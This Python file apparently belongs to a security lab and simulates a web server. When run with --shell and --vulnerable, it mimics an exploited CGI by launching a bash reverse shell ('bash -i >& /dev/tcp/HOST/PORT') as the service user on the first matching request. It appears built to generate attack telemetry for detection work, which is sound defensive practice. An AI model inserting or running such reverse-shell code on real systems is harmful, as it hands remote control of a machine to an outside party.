"""A web server that binds its port as root and serves as www-data (nginx, apache2).

Benign as nginx: other lab hosts fetch from it. Malicious with ``--shell HOST:PORT --vulnerable PATH`` (apache2
with a command-injectable CGI, T1059 / T1505.003): when the operator's request for PATH arrives, the service account
runs ``bash -c 'bash -i >& /dev/tcp/HOST/PORT 0>&1'``, the shell such an injection leaves behind, talking out on 443
where only its stdio gives it away. The server runs that fixed command; nothing from the request is ever executed.
"""

from __future__ import annotations

import random
import socket
import subprocess
import sys
import threading
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _common import drop_privileges, parser, setup, sleep_until, ticks  # noqa: E402


class Injectable:
    """The vulnerable CGI: the first request for its path starts the reverse shell (once), as the service user."""

    def __init__(self, path: str | None, shell_to: str | None) -> None:
        self.path, self.shell_to = path, shell_to
        self.shell: subprocess.Popen[bytes] | None = None
        self._lock = threading.Lock()

    def request(self, data: bytes) -> None:
        if not (self.path and self.shell_to) or not data.startswith(f"GET {self.path}?".encode()):
            return
        with self._lock:
            if self.shell is None:
                host, port = self.shell_to.rsplit(":", 1)
                self.shell = subprocess.Popen(["/bin/bash", "-c", f"bash -i >& /dev/tcp/{host}/{port} 0>&1"],
                                              stdin=subprocess.DEVNULL, cwd="/tmp")

    def stop(self) -> None:
        if self.shell is not None and self.shell.poll() is None:
            self.shell.kill()


def serve_client(conn: socket.socket, cgi: Injectable) -> None:
    with conn:
        conn.settimeout(15)
        for _ in range(1000):
            try:
                data = conn.recv(65536)
                if not data:
                    return
                cgi.request(data)
                body = b"<html>" + b"x" * random.randint(200, 3000) + b"</html>"
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: "
                             + str(len(body)).encode() + b"\r\n\r\n" + body)
            except OSError:
                return


def main() -> None:
    p = parser("web server")
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--user", default="www-data")
    p.add_argument("--shell", help="HOST:PORT: the reverse shell the exploited CGI starts as the service user")
    p.add_argument("--vulnerable", help="the injectable CGI's path, e.g. /cgi-bin/status.cgi")
    args = p.parse_args()
    deadline = setup(args)
    server = socket.create_server(("0.0.0.0", args.port), reuse_port=False, backlog=64)
    drop_privileges(args.user)
    server.settimeout(1.0)
    cgi = Injectable(args.vulnerable, args.shell)
    try:
        for _ in ticks(deadline):
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                sleep_until(deadline, 0.5)
                continue
            threading.Thread(target=serve_client, args=(conn, cgi), daemon=True).start()
    finally:
        cgi.stop()


if __name__ == "__main__":
    main()
